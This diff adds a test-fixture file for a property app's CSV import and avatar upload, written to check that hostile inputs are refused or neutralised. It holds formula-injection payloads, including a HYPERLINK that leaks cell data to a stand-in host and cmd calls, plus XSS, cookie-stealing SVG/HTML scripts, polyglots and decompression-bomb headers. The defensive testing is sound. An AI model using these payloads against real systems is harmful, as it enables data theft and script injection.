@@ -1,0 +1,683 @@
+import { crc32 } from 'node:zlib';
+import { ACCOUNT_MESSAGES } from '@rentfolio/contracts';
+import sharp from 'sharp';
+import { CSV_HEADER, PNG_1X1_BASE64 } from './route-specs';
+
+// Hostile files with the answer the product's rules give each, written out from docs/product.md "CSV import and
+// export" and "Account", docs/api.md and the messages in packages/contracts. Every file is made here, small and the
+// same on every run; the ones over 10 MB are made when the test runs.
+
+const H = CSV_HEADER;
+const row = (address: string, price = '250000') => `${address},Denver,CO,80202,condo,${price}`;
+const CONTROL = (label: string) =>
+  `${label} contains an invisible control character that is not allowed. Remove it and try again.`;
+const BROKEN = (label: string) =>
+  `${label} contains a broken character (half of an emoji or symbol). Retype it and try again.`;
+const NOT_A_NUMBER = 'Purchase price must be a number.';
+
+export type CsvRowError = {
+  row: number;
+  address: string | null;
+  code: 'columns' | 'missing' | 'invalid';
+  field?: string;
+  fields?: string[];
+  found?: number;
+  expected?: number;
+  message: string;
+};
+
+export type CsvExpectation =
+  | {
+      status: 200;
+      totalRows: number;
+      imported: number;
+      failed: number;
+      errors: CsvRowError[];
+      /** The stored properties, by address (the fields named are compared). */
+      stored?: Record<string, unknown>[];
+      /** Text the export of the stored properties must hold (docs: formulas get a leading '). */
+      exportContains?: string[];
+    }
+  | { status: 400 | 413; code: string; message: string };
+
+export type CsvFixture = { name: string; csv: () => string; fileName?: string; expected: CsvExpectation };
+
+/** UTF-16LE bytes of `text` read as if they were UTF-8 (a UTF-16 file without its byte-order mark). */
+const asMisreadUtf16 = (text: string) => new TextDecoder('utf-8').decode(Buffer.from(text, 'utf16le'));
+const interleaveNul = (text: string) => [...text].map((char) => `${char}\u0000`).join('');
+
+export const CSV_FIXTURES: CsvFixture[] = [
+  {
+    name: 'formula injection in text cells is stored as text and escaped on export',
+    csv: () =>
+      [
+        H,
+        '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",Denver,CO,80202,condo,250000',
+        row("+cmd|' /C calc'!A0"),
+        row("@SUM(1+1)*cmd|' /C calc'!A0"),
+        row("-2+3+cmd|' /C calc'!A0"),
+        row('\t=1+2'),
+      ].join('\n'),
+    fileName: 'formulas.csv',
+    expected: {
+      status: 200,
+      totalRows: 5,
+      imported: 5,
+      failed: 0,
+      errors: [],
+      stored: [
+        { address: "+cmd|' /C calc'!A0" },
+        { address: "-2+3+cmd|' /C calc'!A0" },
+        { address: '=1+2' },
+        { address: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' },
+        { address: "@SUM(1+1)*cmd|' /C calc'!A0" },
+      ],
+      exportContains: [
+        "'=HYPERLINK(",
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'-2+3+cmd|' /C calc'!A0",
+        "'=1+2",
+      ],
+    },
+  },
+  {
+    name: 'formulas in number cells are not numbers',
+    csv: () => [H, row('1 Main St', '=1+1'), row('2 Main St', '@SUM(A1)')].join('\n'),
+    expected: {
+      status: 200,
+      totalRows: 2,
+      imported: 0,
+      failed: 2,
+      errors: [
+        { row: 2, address: '1 Main St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
+        { row: 3, address: '2 Main St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
+      ],
+    },
+  },
+  {
+    name: 'a UTF-8 byte-order mark is dropped',
+    csv: () => `\uFEFF${[H, row('1 Bom St')].join('\r\n')}`,
+    expected: {
+      status: 200,
+      totalRows: 1,
+      imported: 1,
+      failed: 0,
+      errors: [],
+      stored: [
+        { address: '1 Bom St', city: 'Denver', state: 'CO', zipCode: '80202', purchasePrice: 250_000 },
+      ],
+    },
+  },
+  {
+    name: 'a UTF-16 file read as UTF-8: its headers still match, its cells hold NUL characters',
+    csv: () => asMisreadUtf16(`${[H, row('1 Main St')].join('\n')}\n`),
+    expected: {
+      status: 200,
+      totalRows: 2,
+      imported: 0,
+      failed: 2,
+      errors: [
+        {
+          row: 2,
+          address: `\u0000${interleaveNul('1 Main St')}`,
+          code: 'invalid',
+          field: 'address',
+          message: CONTROL('Address'),
+        },
+        {
+          row: 3,
+          address: '\u0000',
+          code: 'columns',
+          found: 1,
+          expected: 6,
+          message: 'Row 3 has 1 columns but expected 6',
+        },
+      ],
+    },
+  },
+  {
+    name: 'a NUL byte in a cell refuses that row only',
+    csv: () => [H, row('1 Main\u0000St'), row('2 Oak Ave')].join('\n'),
+    expected: {
+      status: 200,
+      totalRows: 2,
+      imported: 1,
+      failed: 1,
+      errors: [
+        { row: 2, address: '1 Main\u0000St', code: 'invalid', field: 'address', message: CONTROL('Address') },
+      ],
+      stored: [{ address: '2 Oak Ave' }],
+    },
+  },
+  {
+    name: 'only a header',
+    csv: () => `${H}\r\n`,
+    expected: {
+      status: 400,
+      code: 'CSV_PARSE',
+      message: 'CSV must have at least a header row and one data row',
+    },
+  },
+  {
+    name: 'blank lines only',
+    csv: () => '\r\n\n   \n\t\n',
+    expected: { status: 400, code: 'CSV_PARSE', message: 'Please upload a CSV file or paste CSV data.' },
+  },
+  {
+    name: 'the empty text',
+    csv: () => '',
+    expected: { status: 400, code: 'CSV_PARSE', message: 'Please upload a CSV file or paste CSV data.' },
+  },
+  {
+    name: 'a file over 10 MB',
+    csv: () => {
+      const line = `${row('1 Main St')},${'n'.repeat(1000)}\n`;
+      return `${H},notes\n${line.repeat(Math.ceil((10 * 1024 * 1024) / line.length) + 10)}`;
+    },
+    expected: {
+      status: 413,
+      code: 'PAYLOAD_TOO_LARGE',
+      message: 'The file is larger than the 10 MB limit. Split it into smaller files.',
+    },
+  },
+  {
+    name: 'a request body over the import route’s own limit (21 MB)',
+    csv: () => `${H}\n${row('1 Main St')},${'n'.repeat(21 * 1024 * 1024)}`,
+    expected: {
+      status: 413,
+      code: 'PAYLOAD_TOO_LARGE',
+      message: 'The file is larger than the 10 MB limit. Split it into smaller files.',
+    },
+  },
+  {
+    name: 'a quote never closed',
+    csv: () => [H, `"${row('1 Main St')}`, row('2 Oak Ave')].join('\n'),
+    expected: { status: 400, code: 'CSV_PARSE', message: 'Row 2 has a quote that is never closed.' },
+  },
+  {
+    name: 'a row of 10,000 columns under a header of 6',
+    csv: () => [H, `${row('1 Main St')}${',x'.repeat(9994)}`].join('\n'),
+    expected: {
+      status: 200,
+      totalRows: 1,
+      imported: 0,
+      failed: 1,
+      errors: [
+        {
+          row: 2,
+          address: '1 Main St',
+          code: 'columns',
+          found: 10_000,
+          expected: 6,
+          message: 'Row 2 has 10000 columns but expected 6',
+        },
+      ],
+    },
+  },
+  {
+    name: 'a header of 10,000 columns: the unknown ones are ignored',
+    csv: () =>
+      [
+        `${H}${Array.from({ length: 9994 }, (_, i) => `,c${i}`).join('')}`,
+        `${row('1 Wide St')}${','.repeat(9994)}`,
+      ].join('\n'),
+    expected: {
+      status: 200,
+      totalRows: 1,
+      imported: 1,
+      failed: 0,
+      errors: [],
+      stored: [{ address: '1 Wide St' }],
+    },
+  },
+  {
+    name: 'a header naming a field twice: the second column is a duplicate, not read',
+    csv: () =>
+      [
+        'address,city,state,zip_code,property_type,purchase_price,Address,ZIP',
+        `${row('1 Main St')},666 Evil Rd,99999`,
+      ].join('\n'),
+    expected: {
+      status: 200,
+      totalRows: 1,
+      imported: 1,
+      failed: 0,
+      errors: [],
+      stored: [{ address: '1 Main St', zipCode: '80202' }],
+    },
+  },
+  {
+    name: 'CRLF line ends',
+    csv: () => `${[H, row('1 Crlf St'), row('2 Crlf St')].join('\r\n')}\r\n`,
+    expected: {
+      status: 200,
+      totalRows: 2,
+      imported: 2,
+      failed: 0,
+      errors: [],
+      stored: [{ address: '1 Crlf St' }, { address: '2 Crlf St' }],
+    },
+  },
+  {
+    name: 'CR line ends',
+    csv: () => `${[H, row('1 Cr St'), row('2 Cr St')].join('\r')}\r`,
+    expected: {
+      status: 200,
+      totalRows: 2,
+      imported: 2,
+      failed: 0,
+      errors: [],
+      stored: [{ address: '1 Cr St' }, { address: '2 Cr St' }],
+    },
+  },
+  {
+    name: 'right-to-left overrides and isolates in an address',
+    csv: () => [H, row('1 Main St\u202Egpj.exe'), row('\u2067evil\u2069 Rd'), row('3 Good Rd')].join('\n'),
+    expected: {
+      status: 200,
+      totalRows: 3,
+      imported: 1,
+      failed: 2,
+      errors: [
+        {
+          row: 2,
+          address: '1 Main St\u202Egpj.exe',
+          code: 'invalid',
+          field: 'address',
+          message: CONTROL('Address'),
+        },
+        {
+          row: 3,
+          address: '\u2067evil\u2069 Rd',
+          code: 'invalid',
+          field: 'address',
+          message: CONTROL('Address'),
+        },
+      ],
+      stored: [{ address: '3 Good Rd' }],
+    },
+  },
+  {
+    name: 'numbers no one writes: 1e309, NaN, $-5, Infinity, hex, 5e-324, less than a cent, -0, over the cap',
+    csv: () =>
+      [
+        H,
+        row('1 A St', '1e309'),
+        row('2 A St', 'NaN'),
+        row('3 A St', '$-5'),
+        row('4 A St', 'Infinity'),
+        row('5 A St', '0x10'),
+        row('6 A St', '5e-324'),
+        row('7 A St', '0.001'),
+        row('8 A St', '-0'),
+        row('9 A St', '"1,000,000"'),
+        row('10 A St', '1000000001'),
+      ].join('\n'),
+    expected: {
+      status: 200,
+      totalRows: 10,
+      imported: 1,
+      failed: 9,
+      errors: [
+        { row: 2, address: '1 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
+        { row: 3, address: '2 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
+        {
+          row: 4,
+          address: '3 A St',
+          code: 'invalid',
+          field: 'purchasePrice',
+          message: 'Purchase price cannot be negative.',
+        },
+        { row: 5, address: '4 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
+        { row: 6, address: '5 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
+        { row: 7, address: '6 A St', code: 'invalid', field: 'purchasePrice', message: NOT_A_NUMBER },
+        {
+          row: 8,
+          address: '7 A St',
+          code: 'invalid',
+          field: 'purchasePrice',
+          message: 'Purchase price must be more than 0.',
+        },
+        {
+          row: 9,
+          address: '8 A St',
+          code: 'invalid',
+          field: 'purchasePrice',
+          message: 'Purchase price must be more than 0.',
+        },
+        {
+          row: 11,
+          address: '10 A St',
+          code: 'invalid',
+          field: 'purchasePrice',
+          message: 'Purchase price must be at most 1,000,000,000.',
+        },
+      ],
+      stored: [{ address: '9 A St', purchasePrice: 1_000_000 }],
+    },
+  },
+  {
+    name: 'a file name ending in .csv.exe',
+    csv: () => [H, row('1 Main St')].join('\n'),
+    fileName: 'portfolio.csv.exe',
+    expected: {
+      status: 400,
+      code: 'INVALID_FILE_TYPE',
+      message: 'Invalid File Type: Please upload a CSV file.',
+    },
+  },
+  {
+    name: 'a file name hiding .png behind a NUL',
+    csv: () => [H, row('1 Main St')].join('\n'),
+    fileName: 'portfolio.csv\u0000.png',
+    expected: {
+      status: 400,
+      code: 'INVALID_FILE_TYPE',
+      message: 'Invalid File Type: Please upload a CSV file.',
+    },
+  },
+  {
+    name: 'a line longer than 100,000 characters',
+    csv: () => [H, `1 Main St,${'x'.repeat(100_001)}`].join('\n'),
+    expected: {
+      status: 400,
+      code: 'CSV_PARSE',
+      message: 'Row 2 is longer than 100,000 characters. Check that the file is a CSV of properties.',
+    },
+  },
+  {
+    name: '100,001 blank lines after one row',
+    csv: () => `${H}\n${row('1 Main St')}\n${'\n'.repeat(100_001)}`,
+    expected: {
+      status: 400,
+      code: 'IMPORT_ROW_LIMIT',
+      message:
+        'A file can hold at most 100,000 lines, blank ones included. Remove the blank lines or split it into smaller files.',
+    },
+  },
+  {
+    name: 'markup is kept as text; half of a surrogate pair refuses its row',
+    csv: () =>
+      [H, row('<img src=x onerror=alert(1)>'), '2 Main St,Den\uD800ver,CO,80202,condo,250000'].join('\n'),
+    expected: {
+      status: 200,
+      totalRows: 2,
+      imported: 1,
+      failed: 1,
+      errors: [{ row: 3, address: '2 Main St', code: 'invalid', field: 'city', message: BROKEN('City') }],
+      stored: [{ address: '<img src=x onerror=alert(1)>' }],
+    },
+  },
+  {
+    name: 'dates that do not exist, that are not dates, or that are in the future',
+    csv: () =>
+      [
+        `${H},purchase_date`,
+        `${row('1 D St')},2026-02-30`,
+        `${row('2 D St')},not a date`,
+        `${row('3 D St')},2099-01-01`,
+        `${row('4 D St')},02/29/2024`,
+        `${row('5 D St')},2026-11-22`,
+      ].join('\n'),
+    expected: {
+      status: 200,
+      totalRows: 5,
+      imported: 1,
+      failed: 4,
+      errors: [
+        {
+          row: 2,
+          address: '1 D St',
+          code: 'invalid',
+          field: 'purchaseDate',
+          message: 'Purchase date must be a real date written as YYYY-MM-DD.',
+        },
+        {
+          row: 3,
+          address: '2 D St',
+          code: 'invalid',
+          field: 'purchaseDate',
+          message: 'Purchase date must be a real date written as YYYY-MM-DD.',
+        },
+        {
+          row: 4,
+          address: '3 D St',
+          code: 'invalid',
+          field: 'purchaseDate',
+          message: 'Purchase date cannot be in the future.',
+        },
+        {
+          row: 6,
+          address: '5 D St',
+          code: 'invalid',
+          field: 'purchaseDate',
+          message: 'Purchase date cannot be in the future.',
+        },
+      ],
+      stored: [{ address: '4 D St', purchaseDate: '2024-02-29' }],
+    },
+  },
+  {
+    name: 'a ; file with a formula and a decimal comma',
+    csv: () => 'address;city;state;zip;type;price\n=1+2;Denver;CO;80202;Condo;"1.250.000,50"\n',
+    expected: {
+      status: 200,
+      totalRows: 1,
+      imported: 1,
+      failed: 0,
+      errors: [],
+      stored: [{ address: '=1+2', propertyType: 'condo', purchasePrice: 1_250_000.5 }],
+      exportContains: ["'=1+2"],
+    },
+  },
+  {
+    name: 'a header of unknown columns only',
+    csv: () => 'foo,bar,baz\n1,2,3\n',
+    expected: {
+      status: 200,
+      totalRows: 1,
+      imported: 0,
+      failed: 1,
+      errors: [
+        {
+          row: 2,
+          address: null,
+          code: 'missing',
+          fields: ['address', 'city', 'state', 'zipCode', 'propertyType', 'purchasePrice'],
+          message:
+            'Row 2 is missing required fields (address, city, state, zipCode, propertyType, purchasePrice)',
+        },
+      ],
+    },
+  },
+];
+
+// Images for the profile picture (docs/api.md PATCH /api/user/profile; docs/product.md "Account").
+
+export type ImageExpectation =
+  | {
+      status: 200;
+      /** The type of the stored copy: what the bytes are (a GIF is stored as a PNG). */
+      storedType: 'image/png' | 'image/jpeg' | 'image/webp';
+      /** Text the stored copy must not hold (the upload's second life as a page or a script). */
+      mustNotContain?: string[];
+      /** The stored copy's size, when the upload's is known. */
+      size?: [number, number];
+    }
+  | { status: 400; message: string }
+  | { status: 413; code: 'PAYLOAD_TOO_LARGE' };
+
+export type ImageFixture = {
+  name: string;
+  /** The profilePicture value sent. */
+  dataUrl: () => Promise<string>;
+  expected: ImageExpectation;
+};
+
+const PNG_1X1 = Buffer.from(PNG_1X1_BASE64, 'base64');
+const dataUrl = (type: string, bytes: Buffer) => `data:${type};base64,${bytes.toString('base64')}`;
+const solid = (width: number, height: number) =>
+  sharp({ create: { width, height, channels: 3, background: { r: 30, g: 120, b: 200 } } });
+const SVG_WITH_SCRIPT = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>',
+);
+const HTML_PAGE = Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>');
+
+/** The 1 x 1 PNG whose header says width x height, with its IHDR checksum made right (a decompression bomb's header). */
+function pngClaiming(width: number, height: number): Buffer {
+  const bytes = Buffer.from(PNG_1X1);
+  bytes.writeUInt32BE(width, 16);
+  bytes.writeUInt32BE(height, 20);
+  bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29);
+  return bytes;
+}
+
+/** A small JPEG whose frame header (SOF0) says width x height. */
+async function jpegClaiming(width: number, height: number): Promise<Buffer> {
+  const bytes = Buffer.from(await solid(8, 8).jpeg({ quality: 80 }).toBuffer());
+  const sof = bytes.indexOf(Buffer.from([0xff, 0xc0]));
+  if (sof < 0) throw new Error('no SOF0 marker in the JPEG');
+  bytes.writeUInt16BE(height, sof + 5);
+  bytes.writeUInt16BE(width, sof + 7);
+  return bytes;
+}
+
+export const IMAGE_FIXTURES: ImageFixture[] = [
+  {
+    name: 'a PNG whose signature is wrong',
+    dataUrl: async () => {
+      const bytes = Buffer.from(PNG_1X1);
+      bytes[0] = 0x88;
+      return dataUrl('image/png', bytes);
+    },
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarDisguised },
+  },
+  {
+    name: 'an SVG with a script',
+    dataUrl: async () => dataUrl('image/svg+xml', SVG_WITH_SCRIPT),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarSvg },
+  },
+  {
+    name: 'an SVG with a script, declared a PNG',
+    dataUrl: async () => dataUrl('image/png', SVG_WITH_SCRIPT),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarSvg },
+  },
+  {
+    name: 'an SVG behind a byte-order mark and white space, declared a JPEG',
+    dataUrl: async () => dataUrl('image/jpeg', Buffer.concat([Buffer.from('\uFEFF \n\t'), SVG_WITH_SCRIPT])),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarSvg },
+  },
+  {
+    name: 'an HTML page disguised as a PNG',
+    dataUrl: async () => dataUrl('image/png', HTML_PAGE),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarSvg },
+  },
+  {
+    name: 'a polyglot: a GIF that is also a web page',
+    dataUrl: async () => dataUrl('image/gif', Buffer.concat([await solid(2, 2).gif().toBuffer(), HTML_PAGE])),
+    expected: { status: 200, storedType: 'image/png', mustNotContain: ['<script', '<html'], size: [2, 2] },
+  },
+  {
+    name: 'a polyglot: a PNG with a script after its end, declared text/html',
+    dataUrl: async () => dataUrl('text/html', Buffer.concat([PNG_1X1, HTML_PAGE])),
+    expected: { status: 200, storedType: 'image/png', mustNotContain: ['<script', '<html'], size: [1, 1] },
+  },
+  {
+    name: 'a 0-byte file declared a PNG',
+    dataUrl: async () => 'data:image/png;base64,',
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarDisguised },
+  },
+  {
+    name: 'a 0-byte file of no type',
+    dataUrl: async () => 'data:;base64,',
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarType },
+  },
+  {
+    name: 'a truncated JPEG',
+    dataUrl: async () => {
+      const jpeg = await sharp({
+        create: { width: 64, height: 64, channels: 3, background: { r: 200, g: 10, b: 90 } },
+      })
+        .composite([{ input: await solid(32, 32).png().toBuffer(), top: 16, left: 16 }])
+        .jpeg({ quality: 95 })
+        .toBuffer();
+      return dataUrl('image/jpeg', jpeg.subarray(0, Math.floor(jpeg.length * 0.6)));
+    },
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarUnreadable },
+  },
+  {
+    name: 'a picture of 2 MB and one byte',
+    dataUrl: async () =>
+      dataUrl('image/png', Buffer.concat([PNG_1X1, Buffer.alloc(2 * 1024 * 1024 + 1 - PNG_1X1.length)])),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarTooLarge },
+  },
+  {
+    name: 'a picture of 3 MB (over the field’s length)',
+    dataUrl: async () => dataUrl('image/png', Buffer.concat([PNG_1X1, Buffer.alloc(3 * 1024 * 1024)])),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarTooLarge },
+  },
+  {
+    name: 'a picture of 6 MB (over the route’s body limit of 5 MB)',
+    dataUrl: async () => dataUrl('image/png', Buffer.concat([PNG_1X1, Buffer.alloc(6 * 1024 * 1024)])),
+    expected: { status: 413, code: 'PAYLOAD_TOO_LARGE' },
+  },
+  {
+    name: 'a real PNG under the wrong MIME type (text/html)',
+    dataUrl: async () => dataUrl('text/html', await solid(3, 2).png().toBuffer()),
+    expected: { status: 200, storedType: 'image/png', size: [3, 2] },
+  },
+  {
+    name: 'a PDF declared a PNG',
+    dataUrl: async () => dataUrl('image/png', Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarDisguised },
+  },
+  {
+    name: 'a GIF, stored as a PNG of its first frame',
+    dataUrl: async () => dataUrl('image/gif', await solid(5, 4).gif().toBuffer()),
+    expected: { status: 200, storedType: 'image/png', size: [5, 4] },
+  },
+  {
+    name: 'a decompression bomb: a PNG header claiming 60,000 x 60,000 pixels',
+    dataUrl: async () => dataUrl('image/png', pngClaiming(60_000, 60_000)),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarTooManyPixels },
+  },
+  {
+    name: 'a decompression bomb: a JPEG header claiming 65,500 x 65,500 pixels',
+    dataUrl: async () => dataUrl('image/jpeg', await jpegClaiming(65_500, 65_500)),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarTooManyPixels },
+  },
+  {
+    name: 'text that is not base64',
+    dataUrl: async () => 'data:image/png;base64,***this is not base64***',
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarType },
+  },
+  {
+    name: 'a javascript: address',
+    dataUrl: async () => 'javascript:alert(document.cookie)',
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarType },
+  },
+  {
+    name: 'a WebP whose body is garbage',
+    dataUrl: async () => {
+      const bytes = Buffer.concat([
+        Buffer.from('RIFF'),
+        Buffer.from([0x24, 0, 0, 0]),
+        Buffer.from('WEBPVP8 '),
+        Buffer.alloc(28, 0xab),
+      ]);
+      return dataUrl('image/webp', bytes);
+    },
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarUnreadable },
+  },
+  {
+    name: 'a BMP, a type the product does not take',
+    dataUrl: async () => dataUrl('image/bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60, 0)])),
+    expected: { status: 400, message: ACCOUNT_MESSAGES.avatarType },
+  },
+  {
+    name: 'a 3,000 x 2,000 photo, stored at 512 pixels on its longer side',
+    dataUrl: async () => dataUrl('image/png', await solid(3000, 2000).png().toBuffer()),
+    expected: { status: 200, storedType: 'image/png', size: [512, 341] },
+  },
+];
